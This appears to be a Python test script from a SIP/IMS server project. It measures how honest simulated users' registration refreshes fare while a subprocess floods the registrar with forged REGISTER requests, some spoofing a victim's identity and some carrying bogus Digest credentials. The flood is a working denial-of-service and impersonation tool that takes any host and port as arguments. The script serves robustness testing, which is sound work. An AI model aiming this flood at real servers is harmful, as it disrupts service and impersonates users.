#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A flood of forged REGISTERs, and the honest users beside it.

As a program it is the flood: unanswered, from one socket, half of it with random
private identities, half with one victim's. `Crowd` are the users, refreshing
one after the other, with retransmissions as a UE sends them.
"""

from __future__ import annotations

import argparse
import secrets
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field

RETRANSMIT_S = (0.5, 1.5, 3.5)  # after the first sending (RFC 3261 17.1.2.2)
GIVE_UP_S = 7.5

FORGED = (
    "REGISTER sip:{realm} SIP/2.0\r\n"
    "Via: SIP/2.0/UDP {host}:{port};branch=z9hG4bK{n:x}{salt}\r\n"
    "Max-Forwards: 69\r\nFrom: <sip:{user}@{realm}>;tag={n:x}\r\n"
    "To: <sip:{user}@{realm}>\r\nCall-ID: {n:x}-{salt}\r\nCSeq: 1 REGISTER\r\n"
    "Contact: <sip:{user}@127.66.6.6:5060>\r\nExpires: 600\r\n"
    "Path: <sip:term@{host}:{port};lr>\r\n"
    'Authorization: Digest username="{user}@{realm}",realm="{realm}",'
    'nonce="{nonce}",uri="sip:{realm}",response="{response}",'
    'qop=auth,nc=00000001,cnonce="{n:x}"\r\n'
    "Content-Length: 0\r\n\r\n")


def forge(n: int, victim: str, realm: str, address: tuple[str, int],
          salt: str) -> bytes:
    """The n-th forged REGISTER: every other one in the victim's name, every
    third one with credentials that are wrong."""
    user = victim if n % 2 else f"x{secrets.token_hex(6)}"
    wrong = n % 3 == 0
    return FORGED.format(realm=realm, host=address[0], port=address[1], n=n,
                         salt=salt, user=user,
                         nonce=secrets.token_hex(16) if wrong else "",
                         response=secrets.token_hex(16) if wrong else "").encode()


def flood(server: tuple[str, int], victim: str, realm: str, rate: int,
          seconds: float) -> int:
    """Send `rate` a second, as many as fit; how many were sent."""
    salt, sent = secrets.token_hex(4), 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("127.0.0.1", 0))
        began = time.monotonic()
        while (now := time.monotonic() - began) < seconds:
            due = int(now * rate) - sent
            for _ in range(min(due, 200)):
                sent += 1
                sock.sendto(forge(sent, victim, realm, sock.getsockname(), salt),
                            server)
            if due <= 0:
                time.sleep(0.001)
    return sent


class Flood:
    """The flood in a process of its own."""

    def __init__(self, server: tuple[str, int], victim: str, realm: str,
                 rate: int, seconds: float):
        self._process = subprocess.Popen(
            [sys.executable, __file__, server[0], str(server[1]), victim, realm,
             str(rate), str(seconds)], stdout=subprocess.PIPE, text=True)

    def sent(self) -> int:
        """Await its end; how many were sent."""
        return int(self._process.communicate(timeout=600)[0])


@dataclass
class Result:
    """How the honest users fared. Times in seconds."""

    times: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    retransmissions: int = 0

    def percentile(self, share: float) -> float:
        """Time within which that share of the refreshes was answered."""
        ordered = sorted(self.times)
        return ordered[min(len(ordered) - 1, int(share * len(ordered)))]

    def __str__(self) -> str:
        return (f"{len(self.times)} refreshes, {len(self.failures)} failed, "
                f"{self.retransmissions} sent again, median "
                f"{self.percentile(0.5) * 1e3:.1f} ms, p99 "
                f"{self.percentile(0.99) * 1e3:.1f} ms")


class _Refresh:
    """One refresh under way; a challenge is answered."""

    def __init__(self, ue, mark: str):
        self.ue = ue
        self.began = time.monotonic()
        self.challenged = False
        self._send(ue.credentials(integrity=mark))

    def _send(self, authorization: str) -> None:
        self._repeats = list(RETRANSMIT_S)
        self._sent_at = time.monotonic()
        self.transaction = self.ue.start(self.ue.build_register(
            600, authorization=authorization))

    def step(self, result: Result) -> bool:
        """Whether it is over."""
        now, final = time.monotonic(), self.transaction.final
        if final is not None and final.status == 401 and not self.challenged:
            self.challenged = True
            self._send(self.ue.answer_of(final, integrity="no"))
            return False
        if final is None and now - self._sent_at < GIVE_UP_S:
            if self._repeats and now - self._sent_at >= self._repeats[0]:
                self._repeats.pop(0)
                self.transaction.repeat()
                result.retransmissions += 1
            return False
        if final is not None and final.status == 200:
            result.times.append(now - self.began)
            self.ue.adopt_nextnonce(final)
        else:
            result.failures.append(f"{self.ue.sub.impi}: {final}")
        self.ue.transactions.clear()
        return True


class Crowd:
    """Registered users: (UE, integrity-protected of its refreshes)."""

    def __init__(self, lab, users: list[tuple[object, str]]):
        self.lab, self.users = lab, users

    def refresh(self, seconds: float, rate: float) -> Result:
        """All in turn, `rate` a second, for so long."""
        result, under_way, started = Result(), [], 0
        began = time.monotonic()
        while (now := time.monotonic() - began) < seconds or under_way:
            while now < seconds and started < now * rate:
                under_way.append(_Refresh(*self.users[started % len(self.users)]))
                started += 1
            self.lab.hub.serve(0.001)
            under_way = [r for r in under_way if not r.step(result)]
        return result


def main() -> int:
    """Entry point of the flood."""
    parser = argparse.ArgumentParser(description="a flood of forged REGISTERs")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("victim")
    parser.add_argument("realm")
    parser.add_argument("rate", type=int)
    parser.add_argument("seconds", type=float)
    o = parser.parse_args()
    print(flood((o.host, o.port), o.victim, o.realm, o.rate, o.seconds))
    return 0


if __name__ == "__main__":
    sys.exit(main())
